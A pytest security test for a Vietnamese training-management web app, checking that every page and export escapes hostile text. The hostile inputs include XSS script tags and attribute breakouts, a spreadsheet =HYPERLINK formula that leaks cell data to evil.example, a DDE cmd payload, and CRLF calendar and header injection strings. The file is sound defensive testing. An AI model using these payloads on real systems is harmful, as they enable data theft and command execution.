"""Names and free text written to attack the pages and the files: `<script>`, quotes that close an
attribute, `=HYPERLINK(` for spreadsheets, a line break that would add a property to a calendar.

The demo's plan, class, session, organisation, trainer, venue and a participant get such text, then
every GET route of `app.url_map` is rendered (pages, .xlsx, .csv, .ics, the sign-in sheet, the QR
images): the HTML holds the text escaped and no inline code at all, the spreadsheets hold no formula
and no cell a spreadsheet would read as one, the calendars carry the text without a forged property.
"""
from __future__ import annotations

import csv
import io
import re

import pytest
from markupsafe import escape
from sqlalchemy import select

from bdgtrain.extensions import db
from tests.web.security_support import (  # noqa: F401  (fixtures, taken by name)
    build,
    collection_rules,
    find_rule,
    logged_in_client,
    rule_id,
    security_world,
    world,
)
from tests.web.test_security_templates import inline_code

SCRIPT = '<script>alert("x")</script>'
ATTRIBUTE = "\" onmouseover=\"alert(1)\" x='"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")'
HOSTILE = {
    "plan_title": f"Kế hoạch {SCRIPT}{ATTRIBUTE}",
    "class_title": f"Lớp {SCRIPT}\r\nX-INJECTED:1\r\n{ATTRIBUTE}",
    "session_label": f"Sáng {SCRIPT}"[:80],
    "org_name": f"Sở {SCRIPT}{ATTRIBUTE}",
    "trainer_name": f"TS. {SCRIPT}{ATTRIBUTE}",
    "venue_name": f"Hội trường {SCRIPT}{ATTRIBUTE}",
    "full_name": HYPERLINK,
    "position": "+cmd|' /C calc'!A0",
    "unit_name": f"@SUM(1+1) {SCRIPT}",
    "ethnicity": "-2+3",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

GET_RULES = [r for r in collection_rules() if "GET" in r.methods]


@pytest.fixture
def hostile_world(app, security_world):
    from bdgtrain.models import ClassSession, Enrolment, Organisation, Plan, Trainer, TrainingClass, Venue

    accounts, ids = security_world
    plan = db.session.scalar(select(Plan).where(Plan.code == ids["code"]))
    cls = db.session.scalar(select(TrainingClass).where(TrainingClass.plan_id == plan.id,
                                                        TrainingClass.code == ids["class_code"]))
    plan.title = HOSTILE["plan_title"]
    cls.title = HOSTILE["class_title"]
    cls.audience = ATTRIBUTE
    db.session.get(ClassSession, ids["session_id"]).label = HOSTILE["session_label"]
    db.session.scalar(select(Organisation).where(Organisation.code == "SNV")).name = HOSTILE["org_name"]
    db.session.get(Trainer, ids["trainer_id"]).name = HOSTILE["trainer_name"]
    db.session.get(Venue, ids["venue_id"]).name = HOSTILE["venue_name"]
    person = db.session.get(Enrolment, ids["enrolment_id"]).person
    for field in ("full_name", "position", "unit_name", "ethnicity"):
        setattr(person, field, HOSTILE[field])
    db.session.commit()
    return accounts, ids


def _check_html(url: str, body: str):
    assert SCRIPT not in body, f"{url}: an unescaped <script> from the data"
    assert 'onmouseover="alert' not in body, f"{url}: a quote from the data closed an attribute"
    problems = inline_code(body)
    assert not problems, f"{url}: " + "; ".join(problems)


def _check_cells(url: str, values):
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_START), f"{url}: a cell a spreadsheet would compute: {value!r}"


def _check_xlsx(url: str, data: bytes):
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], f"{url}: a formula cell"
    _check_cells(url, [c.value for c in cells])
    return [c.value for c in cells if isinstance(c.value, str)]


def _check_csv(url: str, data: bytes):
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    _check_cells(url, [v for row in rows for v in row])
    return [v for row in rows for v in row]


def _check_ics(url: str, data: bytes):
    import icalendar

    calendar = icalendar.Calendar.from_ical(data)
    for component in calendar.walk():
        assert "X-INJECTED" not in component, f"{url}: a line break in the data added a property"
    summaries = [str(e.get("SUMMARY", "")) + str(e.get("DESCRIPTION", "")) for e in calendar.walk("VEVENT")]
    return summaries


DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def _check_docx(url: str, data: bytes):
    """A Word file runs nothing of the data: no macros, no field codes (a name read as a HYPERLINK or
    INCLUDETEXT field), no link to an outside file; the text is in the XML as text."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        names = package.namelist()
        assert not [n for n in names if "vbaProject" in n or n.endswith(".bin")], f"{url}: macros or binaries"
        xml = b"".join(package.read(n) for n in names if n.endswith((".xml", ".rels")))
    # The only field is the page number the writer puts in the page header (Decree 30: from page 2).
    fields = re.findall(rb"<w:instrText[^>]*>([^<]*)</w:instrText>", xml) + re.findall(rb'w:instr="([^"]*)"', xml)
    assert all(field.strip() == b"PAGE" for field in fields), f"{url}: a field code {fields}"
    assert b'TargetMode="External"' not in xml and b"altChunk" not in xml, f"{url}: an outside file"
    assert b"<script" not in xml, f"{url}: a <script> from the data left unescaped"


def _check_pdf(url: str, data: bytes):
    """A PDF runs nothing: no JavaScript, no launch or submit action, no action on opening besides the
    page and zoom to show (fpdf2's [page /FitH null], a destination, not an action)."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject

    assert b"/JavaScript" not in data and b"/JS " not in data and b"/Launch" not in data, url
    assert b"/SubmitForm" not in data and b"/ImportData" not in data, url
    catalog = PdfReader(io.BytesIO(data)).trailer["/Root"]
    assert "/AA" not in catalog, f"{url}: an additional action"
    opening = catalog.get("/OpenAction")
    assert opening is None or isinstance(opening.get_object(), ArrayObject), f"{url}: an action on opening"


@pytest.mark.parametrize("collected", GET_RULES, ids=rule_id)
def test_hostile_text_is_harmless_on_every_page_and_file(app, hostile_world, collected):
    accounts, ids = hostile_world
    rule = find_rule(app, collected.rule, collected.endpoint)
    url = build(rule, ids)
    client = logged_in_client(app, accounts, "admin")
    response = client.get(url)
    assert response.status_code < 400, (url, response.status_code)
    if response.status_code >= 300:
        return  # a redirect (a ticket's lower-case alias, the public feed of a private plan...): nothing rendered
    mimetype = response.mimetype
    data = response.get_data()
    if mimetype == "text/html":
        _check_html(url, response.get_data(as_text=True))
    elif mimetype.endswith("spreadsheetml.sheet"):
        _check_xlsx(url, data)
    elif mimetype == "text/csv":
        _check_csv(url, data)
    elif mimetype == "text/calendar":
        _check_ics(url, data)
    elif mimetype == "image/svg+xml":
        assert b"<script" not in data.lower() and not re.search(rb"\son[a-z]+\s*=", data.lower()), url
    elif mimetype == "application/pdf":
        _check_pdf(url, data)
    elif mimetype == DOCX:
        _check_docx(url, data)
    else:
        # A new kind of file: say here how hostile text is kept harmless in it.
        assert mimetype in ("application/json", "image/png", "text/javascript", "text/plain"), (url, mimetype)


def test_the_hostile_text_survives_as_text(app, hostile_world):
    """Harmless, but not lost: the participant's name reads as written on the roster, in the files,
    and the class title in its calendar."""
    accounts, ids = hostile_world
    client = logged_in_client(app, accounts, "admin")
    base = f"/plans/{ids['code']}/classes/{ids['class_code']}"
    page = client.get(f"{base}/roster").get_data(as_text=True)
    assert str(escape(HOSTILE["full_name"])) in page
    assert "'" + HOSTILE["full_name"] in _check_xlsx("xlsx", client.get(f"{base}/roster.xlsx").get_data())
    assert "'" + HOSTILE["full_name"] in _check_csv("csv", client.get(f"{base}/roster.csv").get_data())
    assert "'" + HOSTILE["position"] in _check_csv("csv", client.get(f"{base}/roster.csv").get_data())
    summaries = _check_ics("ics", client.get(f"{base}/calendar.ics").get_data())
    assert any("X-INJECTED:1" in s and SCRIPT in s for s in summaries)


def test_downloads_name_their_files_safely_whatever_the_codes(app, hostile_world):
    """A code with Vietnamese letters or a quote must not break the header or forge a parameter."""
    from bdgtrain.models import Plan

    accounts, ids = hostile_world
    code = 'KẾ-"HOẠCH";x=1'
    db.session.scalar(select(Plan).where(Plan.code == ids["code"])).code = code
    db.session.commit()
    client = logged_in_client(app, accounts, "admin")
    from urllib.parse import quote

    response = client.get(f"/plans/{quote(code, safe='')}/classes/{ids['class_code']}/roster.csv")
    assert response.status_code == 200
    header = response.headers["Content-Disposition"]
    header.encode("latin-1")
    fallback = header.split('filename="', 1)[1].split('"', 1)[0]
    assert fallback == "danh-sach-KE-HOACH-x-1-LOP-3.csv"
    assert "filename*=UTF-8''danh-sach-K%E1%BA%BE-%22HO%E1%BA%A0CH%22%3Bx%3D1-LOP-3.csv" in header
